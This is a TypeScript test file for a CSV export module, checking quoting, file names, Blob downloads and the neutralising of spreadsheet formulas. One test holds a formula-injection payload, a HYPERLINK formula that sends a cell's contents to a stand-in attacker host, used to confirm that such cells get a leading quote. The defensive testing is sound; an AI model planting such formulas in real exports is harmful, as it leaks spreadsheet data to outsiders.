import { parseCsv } from '@storelens/csv/testing';
import fc from 'fast-check';
import { csvFileName, saveTextFile, tableToCsv } from './csv';
import type { TableHeader, TableRow } from './types';

const headers: TableHeader[] = [
  { key: 'name', label: 'Product' },
  { key: 'sold', label: 'Items sold' },
];

/** Text made of CSV's own characters and the formula starters (cheap to generate in jsdom). */
const cellText = fc.string({
  unit: fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    '"',
    ',',
    "'",
    'a',
    '1',
    '.',
    ' ',
    'é',
  ),
  maxLength: 16,
});

describe('tableToCsv', () => {
  it('writes the labels then one line per row of raw values', () => {
    const rows: TableRow[] = [
      [
        { display: 'Beanie', value: 'Beanie' },
        { display: '1,204', value: 1204 },
      ],
      [
        { display: 'Cap, "red"', value: 'Cap, "red"' },
        { display: '–', value: null },
      ],
    ];
    expect(tableToCsv(headers, rows)).toBe('Product,Items sold\nBeanie,1204\n"Cap, ""red""",\n');
  });

  it('round-trips any text through a CSV reader, formulas neutralised, numbers kept', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(cellText, fc.integer()), { maxLength: 10 }), (data) => {
        const rows: TableRow[] = data.map(([text, n]) => [
          { display: text, value: text },
          { display: String(n), value: n },
        ]);
        const parsed = parseCsv(tableToCsv(headers, rows));
        expect(parsed[0]).toEqual(['Product', 'Items sold']);
        expect(parsed.slice(1)).toEqual(
          data.map(([text, n]) => [
            /^[=+\-@\t\r]/.test(text) && !/^-?\d+(?:\.\d+)?$/.test(text) ? `'${text}` : text,
            String(n),
          ]),
        );
      }),
    );
  });

  it('writes text a spreadsheet would run as a formula with a leading quote, not numbers', () => {
    const rows: TableRow[] = [
      [
        { display: 'x', value: '=HYPERLINK("http://evil.example/?x="&A2,"Click")' },
        { display: '-5', value: -5 },
      ],
      [
        { display: 'x', value: '@cmd' },
        { display: '-12.50', value: '-12.50' },
      ],
      [
        { display: 'x', value: '-2+3' },
        { display: 'yes', value: true },
      ],
    ];
    expect(tableToCsv(headers, rows)).toBe(
      'Product,Items sold\n' +
        '"\'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")",-5\n' +
        "'@cmd,-12.50\n" +
        "'-2+3,true\n",
    );
  });
});

describe('csvFileName', () => {
  it('is the kebab-case title and the local date', () => {
    expect(csvFileName('Top Products: Items sold', new Date(2026, 0, 5, 23, 30))).toBe(
      'top-products-items-sold_2026-01-05.csv',
    );
    expect(csvFileName('***', new Date(2026, 10, 21))).toBe('table_2026-11-21.csv');
  });
});

describe('saveTextFile', () => {
  it('clicks a temporary download link to a Blob and cleans up', () => {
    const created: Blob[] = [];
    const createObjectURL = vi.fn((blob: Blob) => {
      created.push(blob);
      return 'blob:csv';
    });
    const revokeObjectURL = vi.fn();
    const original = { create: URL.createObjectURL, revoke: URL.revokeObjectURL };
    URL.createObjectURL = createObjectURL;
    URL.revokeObjectURL = revokeObjectURL;
    const clicked: HTMLAnchorElement[] = [];
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (
      this: HTMLAnchorElement,
    ) {
      clicked.push(this);
    });
    saveTextFile('report.csv', 'a,b\n');
    expect(clicked[0]?.download).toBe('report.csv');
    expect(clicked[0]?.getAttribute('href')).toBe('blob:csv');
    expect(created[0]?.type).toBe('text/csv;charset=utf-8');
    expect(revokeObjectURL).toHaveBeenCalledWith('blob:csv');
    expect(document.querySelector('a[download]')).toBeNull();
    click.mockRestore();
    URL.createObjectURL = original.create;
    URL.revokeObjectURL = original.revoke;
  });
});
